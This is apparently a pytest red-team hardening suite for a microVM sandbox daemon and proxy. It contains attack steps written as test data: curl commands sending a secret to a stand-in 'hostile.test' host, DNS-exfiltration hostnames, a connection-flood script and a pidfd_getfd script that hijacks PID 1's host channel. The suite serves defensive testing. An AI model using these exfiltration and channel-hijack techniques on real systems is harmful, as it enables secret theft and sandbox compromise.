"""The attacks of a red-team run, each performed for real: root in a real microVM, the real
daemon and proxy, hostile servers on loopback addresses. Every test asserts the attacker
learns nothing (or the host stays bounded), with a control that shows the attack itself got
through to where it would have worked."""

from __future__ import annotations

import base64
import contextlib
import json
import os
import stat
import time
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from cella import Client, Sandbox, errors
from tests.daemon import Daemon, DaemonFactory, SandboxFactory
from tests.netservers import (
    DnsRecorder,
    HostileHandler,
    Recorder,
    Servers,
    TestCA,
    free_loopback_block,
)

pytestmark = [pytest.mark.vm, pytest.mark.hardening]

SECRET = "tok+V4lue/of=the-secret~7c2"
CONNECTION_CAP = 24
OUTPUT_CAP_MIB = 4
CONSOLE_KIB = 256
DISK_QUOTA_MIB = 200
JAIL_GROUP = 3_000_000  # the default jail_id_base


def forms(value: str, user: str = "x-access-token") -> list[str]:
    """The value in every encoding the proxy applies when it sends it."""
    out = [value, urllib.parse.quote(value, safe=""), urllib.parse.quote_plus(value)]
    for raw in (value, f"{user}:{value}"):
        out += [
            base64.b64encode(raw.encode()).decode(),
            base64.urlsafe_b64encode(raw.encode()).decode(),
        ]
    return out


def leaked(text: str) -> list[str]:
    return [f for f in forms(SECRET) if f in text]


@dataclass
class Net:
    hostile: str
    mirror: str
    web: str
    ca: TestCA
    seen: Recorder
    notes: list[str]
    dns: DnsRecorder


@pytest.fixture(scope="module")
def net(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Net]:
    prefix = free_loopback_block()
    hostile, mirror, web = f"{prefix}.1", f"{prefix}.2", f"{prefix}.3"
    ca = TestCA(tmp_path_factory.mktemp("ca"), ["hostile.test", "mirror.test", "web.test"])
    servers = Servers()
    notes: list[str] = []
    seen = servers.start(HostileHandler, (hostile, 80), notes=notes)
    servers.start(HostileHandler, (hostile, 443), ca.server_context(), recorder=seen, notes=notes)
    servers.start(HostileHandler, (mirror, 80), notes=notes)
    servers.start(HostileHandler, (mirror, 443), ca.server_context(), notes=notes)
    servers.start(HostileHandler, (web, 80), notes=[])
    dns = DnsRecorder(f"{prefix}.9")
    yield Net(hostile, mirror, web, ca, seen, notes, dns)
    servers.close()
    dns.close()


@pytest.fixture(scope="module")
def daemon(
    tmp_path_factory: pytest.TempPathFactory, net: Net, module_daemon_factory: DaemonFactory
) -> Daemon:
    """A daemon whose resolver (its own mount namespace's /etc/resolv.conf) is the test's
    DNS recorder, so every lookup its proxy makes is seen."""
    base = tmp_path_factory.mktemp("attacked")
    resolv = base / "resolv.conf"
    resolv.write_text(f"nameserver {net.dns.addr}\noptions timeout:1 attempts:1\n")
    wrap = [
        "unshare",
        "-m",
        "sh",
        "-c",
        f'mount --bind {resolv} /etc/resolv.conf && exec "$@"',
        "-",
    ]
    data = base / "data"
    data.mkdir()
    (data / "left-by-an-older-version").write_text("x")  # made with the old umask
    (data / "left-by-an-older-version").chmod(0o644)
    hosts = {"hostile.test": net.hostile, "mirror.test": net.mirror, "web.test": net.web}
    return module_daemon_factory(
        data_dir=data,
        wrap=wrap,
        pool_size="1",
        max_sandboxes_per_tenant="3",
        max_connections_per_sandbox=str(CONNECTION_CAP),
        max_exec_output_mib=str(OUTPUT_CAP_MIB),
        console_max_kib=str(CONSOLE_KIB),
        egress_hosts=json.dumps(hosts),
        egress_upstream_ca=str(net.ca.cert),
    )


def sh(sb: Sandbox, command: str, timeout: float = 120) -> tuple[int, str]:
    r = sb.exec(command, timeout=timeout)
    return r.exit_code, r.stdout.decode(errors="replace") + r.stderr.decode(errors="replace")


def rss_kib(pid: int, field: str = "VmRSS") -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(f"{field}:"):
            return int(line.split()[1])
    raise AssertionError(f"no {field}")


def peak_from_now(pid: int) -> int:
    """Resets the process's peak resident size (VmHWM) to what it holds now; returns that."""
    Path(f"/proc/{pid}/clear_refs").write_text("5")
    return rss_kib(pid, "VmHWM")


# -- 1. secrets coming back -----------------------------------------------------------------


def test_a_bound_secret_never_comes_back_in_any_form(
    admin: Client, net: Net, sandbox_factory: SandboxFactory
) -> None:
    admin.put_secret("tok", SECRET, ["hostile.test"], auth="basic")
    sb = sandbox_factory(admin, allow=["hostile.test", "mirror.test"], secrets={"TOK": "tok"})
    before = len(net.seen.requests)
    results = {}
    for scheme in ("http", "https"):
        for path in ("reflect", "big", "chunked", "reason", "malformed", "gzip"):
            url = f"{scheme}://hostile.test/{path}?t=$TOK"
            _, out = sh(sb, f'curl -sS -i "{url}" -H "X-Echo: $TOK" -d "body=$TOK" | tail -c 4000')
            results[f"{scheme} {path}"] = out
    print(json.dumps({k: v[-300:] for k, v in results.items()}, indent=1))
    # control: the server did get the value, in the header the proxy built (basic), the
    # URL, a header and the body; and it sent all of it back
    got = json.dumps(net.seen.requests[before:])
    assert SECRET in got and forms(SECRET)[-2] in got  # raw, and base64 of user:value
    for scheme in ("http", "https"):
        for path in ("reflect", "big", "chunked"):  # the echo came through whole, redacted
            out = results[f"{scheme} {path}"]
            assert "cella-secret-" in out and out.rstrip().endswith("}"), (path, out[-200:])
        assert results[f"{scheme} reason"].rstrip().endswith("ok"), results[f"{scheme} reason"]
        assert "cannot be checked for secrets" in results[f"{scheme} gzip"]
    for name, out in results.items():
        assert not leaked(out), (name, leaked(out))


def test_a_header_only_secret_cannot_be_stored_and_read_back(
    admin: Client, net: Net, sandbox_factory: SandboxFactory
) -> None:
    admin.put_secret("note", SECRET, ["hostile.test"], auth="bearer", inject="header")
    admin.put_secret("note-anywhere", SECRET + "-2", ["hostile.test"], auth="bearer")
    sb = sandbox_factory(
        admin,
        allow=["hostile.test", "mirror.test"],
        secrets={"NOTE": "note", "NOTE2": "note-anywhere"},
    )
    before = len(net.seen.requests)
    assert sh(sb, 'curl -sS http://hostile.test/store -d "note: $NOTE"')[0] == 0
    assert sh(sb, 'curl -sS http://hostile.test/store -d "note: $NOTE2"')[0] == 0
    # read back over TLS the proxy does not open (the host holds no secret of ours)
    sb.files.write("/tmp/test-ca.pem", net.ca.cert.read_bytes())
    _, back = sh(sb, "curl -sS --cacert /tmp/test-ca.pem https://mirror.test/notes")
    # header-only: the server got the value only in the Authorization header, never
    # in a body it could store; the guest reads back a placeholder
    stored = net.seen.requests[before:]
    assert stored[0]["headers"]["authorization"] == f"Bearer {SECRET}"
    assert SECRET not in stored[0]["body"] and "cella-secret-" in stored[0]["body"]
    # control: substituted anywhere, the value is stored, and comes back through the
    # other host in clear (the documented risk of inject=anywhere on such hosts; over
    # plain HTTP or TLS the proxy opens, it would have been taken out)
    assert f"note: {SECRET}-2" in stored[1]["body"]
    assert f"{SECRET}-2" in back
    assert SECRET not in back.replace(f"{SECRET}-2", "")


# -- 2. one guest exhausting the host -----------------------------------------------------

HOLD = r"""
import socket, sys, time
n = int(sys.argv[1])
held, answered, refused = [], 0, 0
for i in range(n):
    s = socket.create_connection(("10.0.2.100", 80), timeout=10)
    s.sendall(b"GET /reflect HTTP/1.1\r\nHost: web.test\r\n\r\n")
    held.append(s)
for s in held:
    try:
        answered += s.recv(100).startswith(b"HTTP/1.1 200")
    except OSError:
        refused += 1
print(answered, len(held) - answered)
time.sleep(float(sys.argv[2]))
"""


def host_processes() -> int:
    return sum(1 for e in os.listdir("/proc") if e.isdigit())


def test_held_connections_cost_no_host_process_and_are_capped(
    admin: Client, sandbox_factory: SandboxFactory
) -> None:
    sb = sandbox_factory(admin, allow=["web.test"])
    sb.files.write("/tmp/hold.py", HOLD)
    baseline = host_processes()
    stream = sb.exec_stream(["python3", "/tmp/hold.py", "200", "8"])
    out = b""
    during = baseline
    for event in stream:
        if event.type == "stdout":
            out += event.bytes
            during = host_processes()  # all 200 connections are open now
    answered, refused = (int(x) for x in out.split())
    print(f"answered {answered}, refused {refused}, host processes {baseline} -> {during}")
    assert answered == CONNECTION_CAP and refused == 200 - CONNECTION_CAP
    assert during - baseline < 10, (baseline, during)
    hits = [e.data for e in sb.events(types=["limit_hit"])]
    assert {"limit": "connections", "max": CONNECTION_CAP, "action": "refused"} in hits
    assert sh(sb, "curl -sSf http://web.test/after")[0] == 0  # the cap frees up again


# -- 3. the data directory ----------------------------------------------------------------


def test_the_data_directory_is_owner_only(admin: Client, daemon: Daemon) -> None:
    sb = admin.create()
    snap = sb.snapshot("perm")
    try:
        flat = daemon.data_dir / "snapshots" / snap.id
        deadline = time.monotonic() + 60  # its RAM layer is flattened in the background
        while (flat / "ram.layer").exists() or not (flat / "ram").exists():
            assert time.monotonic() < deadline, sorted(p.name for p in flat.iterdir())
            time.sleep(0.1)
        entries = [daemon.data_dir, *daemon.data_dir.rglob("*")]
        modes = {p: p.stat() for p in entries if not p.is_symlink()}
        open_to_others = [str(p) for p, st in modes.items() if st.st_mode & 0o007]
        assert not open_to_others, open_to_others[:10]
        # group access only for what jailed QEMUs share (a snapshot's memory and disk they
        # restore from), and only to their group
        grouped = {p for p, st in modes.items() if st.st_mode & 0o070}
        assert all(modes[p].st_gid == JAIL_GROUP for p in grouped), grouped
        # (`ram.base`: a RAM layer's link to the file its sandbox was restored from)
        assert {p.name for p in grouped} <= {"ram", "ram.base", "disk.qcow2"}, grouped
        # control: the walk saw the database, a snapshot's memory and a disk
        names = {p.name for p in entries}
        assert {"cella.db", "ram", "disk.qcow2", "left-by-an-older-version"} <= names
        ram = next(p for p in entries if p.name == "ram" and snap.id in str(p))
        assert stat.S_IMODE(ram.stat().st_mode) == 0o400  # not restored from yet
    finally:
        sb.delete()
        snap.delete()


def with_errors_ignored(fn: object) -> None:
    with contextlib.suppress(errors.CellaError):
        fn()  # type: ignore[operator]


# -- 4. the guest console -----------------------------------------------------------------


def test_the_console_cannot_fill_the_host(
    admin: Client, daemon: Daemon, sandbox_factory: SandboxFactory
) -> None:
    sb = sandbox_factory(admin)
    code, out = sh(
        sb,
        "head -c 4M /dev/zero | tr '\\0' x > /dev/console; echo console-end-marker > /dev/console",
        timeout=300,
    )
    assert code == 0, out
    # at most the cap in the log and half of it in the rotated one, of 4 MiB written
    # (the daemon trims about once a second)
    deadline = time.monotonic() + 30
    while True:
        logs = list((daemon.data_dir / "vms" / sb.id).glob("console.log*"))
        sizes = {p.name: p.stat().st_size for p in logs}
        if sum(sizes.values()) <= 2 * CONSOLE_KIB << 10:
            break
        assert time.monotonic() < deadline, sizes
        time.sleep(0.1)
    print(sizes)
    # control: the console got the output (its end is kept)
    text = b"".join(p.read_bytes() for p in logs)
    assert b"console-end-marker" in text and b"x" * 1000 in text


# -- 5. quotas ------------------------------------------------------------------------------


def test_resume_cannot_go_past_the_quota(admin: Client, daemon: Daemon) -> None:
    key = admin.create_key("quota-tenant")["key"]
    with daemon.client(key) as tenant:
        a, b, c = (tenant.create() for _ in range(3))
        try:
            a.stop()
            d = tenant.create()  # the stopped one does not count: 3 live
            with pytest.raises(errors.QuotaExceeded):
                a.resume()
            assert a.refresh().state == "stopped"
            d.delete()
            assert a.resume().state == "running"  # control: with room, it resumes
        finally:
            for sb in (a, b, c):
                with_errors_ignored(sb.delete)


def test_stopped_sandboxes_count_against_a_disk_quota(daemon_factory: DaemonFactory) -> None:
    d = daemon_factory(pool_size="0", max_disk_mib_per_tenant=str(DISK_QUOTA_MIB))
    with d.client() as client:
        first = client.create()
        second = client.create()  # control: under the quota, creates work
        second.delete()
        fill = f"head -c {DISK_QUOTA_MIB + 50}M /dev/urandom > /root/fill && sync"
        assert sh(first, fill, timeout=300)[0] == 0
        first.stop()
        with pytest.raises(errors.QuotaExceeded, match="disk"):
            client.create()
        first.delete()
        client.create().delete()


# -- 6. output held by the daemon ------------------------------------------------------------


def test_exec_output_is_bounded_in_the_daemon(
    admin: Client, daemon: Daemon, sandbox_factory: SandboxFactory
) -> None:
    assert daemon.proc is not None
    pid = daemon.proc.pid
    sb = sandbox_factory(admin)
    # the whole output (64 MiB) held at once would raise the daemon's peak by more than
    # the bound; what it keeps (4 MiB) and the frames in flight stay well under it
    before = peak_from_now(pid)
    r = sb.exec("yes abcdefghij | head -c 64M", timeout=300)
    grew = rss_kib(pid, "VmHWM") - before
    print(f"buffered exec: kept {len(r.stdout)}, cut {r.stdout_truncated}; daemon +{grew} KiB")
    assert len(r.stdout) == OUTPUT_CAP_MIB << 20
    assert r.stdout_truncated == (64 - OUTPUT_CAP_MIB) << 20
    assert grew < 32 << 10
    # streamed: unbounded, but a slow reader slows the guest instead of filling the daemon
    before, total = peak_from_now(pid), 0
    for n, event in enumerate(sb.exec_stream("yes abcdefghij | head -c 64M", timeout=300)):
        total += len(event.bytes)
        if n < 40:
            time.sleep(0.05)
    peak = rss_kib(pid, "VmHWM") - before
    print(f"streamed exec: {total} bytes; daemon peak +{peak} KiB while the reader lagged")
    assert total == 64 << 20
    assert peak < 48 << 10


# -- 7. names the proxy looks up -------------------------------------------------------------


def test_made_up_names_are_never_looked_up(
    admin: Client, net: Net, sandbox_factory: SandboxFactory
) -> None:
    sb = sandbox_factory(admin, allow=["0.0.0.0/0", "::/0", "lookup-control.test"])
    net.dns.names.clear()
    for name in ("c2VjcmV0LWRhdGE.exfil.test", "more-data.exfil.test"):
        _, out = sh(sb, f"curl -sS -m 10 http://{name}/ ; curl -sS -m 10 -x '' https://{name}/")
        assert "denied" in out or "curl" in out
    # control: a name a rule allows is looked up, through the same resolver
    sh(sb, "curl -sS -m 10 http://lookup-control.test/")
    deadline = time.monotonic() + 10
    while not any(n.startswith("lookup-control.test") for n in net.dns.names):
        assert time.monotonic() < deadline, net.dns.names
        time.sleep(0.05)
    print("looked up:", net.dns.names)
    assert not [n for n in net.dns.names if "exfil" in n]


# -- 8. a guest that breaks the agent protocol -------------------------------------------------

GARBAGE = r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
pidfd = os.pidfd_open(1)
port = next(int(fd) for fd in os.listdir("/proc/1/fd")
            if os.readlink(f"/proc/1/fd/{fd}").startswith("/dev/vport"))
fd = libc.syscall(438, pidfd, port, 0)  # pidfd_getfd: PID 1's channel to the host
assert fd >= 0, ctypes.get_errno()
os.write(fd, b"\xff\xff\xff\xff" + b"\x00\x00\x00\x07" + b"\x86" + b"junk" * 64)
print("sent")
"""


def test_a_guest_breaking_the_protocol_gets_a_clear_state(
    admin: Client, sandbox_factory: SandboxFactory
) -> None:
    sb = sandbox_factory(admin)
    with pytest.raises(errors.InvalidArgument):  # 2 MiB of argument: refused up front
        sb.exec(["echo", "x" * (2 << 20)])
    sb.files.write("/tmp/garbage.py", GARBAGE)
    with pytest.raises(errors.AgentUnavailable, match="broke the protocol"):
        sb.exec(["python3", "/tmp/garbage.py"], timeout=60)
        sb.exec(["true"])
    with pytest.raises(errors.AgentUnavailable):
        sb.exec(["true"])  # typed, not a 500
    for _ in range(50):
        info = sb.refresh().info
        if info.error:
            break
        time.sleep(0.1)
    assert info.state == "running" and "agent is unusable" in (info.error or "")
    assert "agent_broken" in [e.type for e in sb.events()]
    sb.stop()
    sb.resume()
    assert sh(sb, "echo back")[1] == "back\n"
    assert sb.refresh().info.error is None
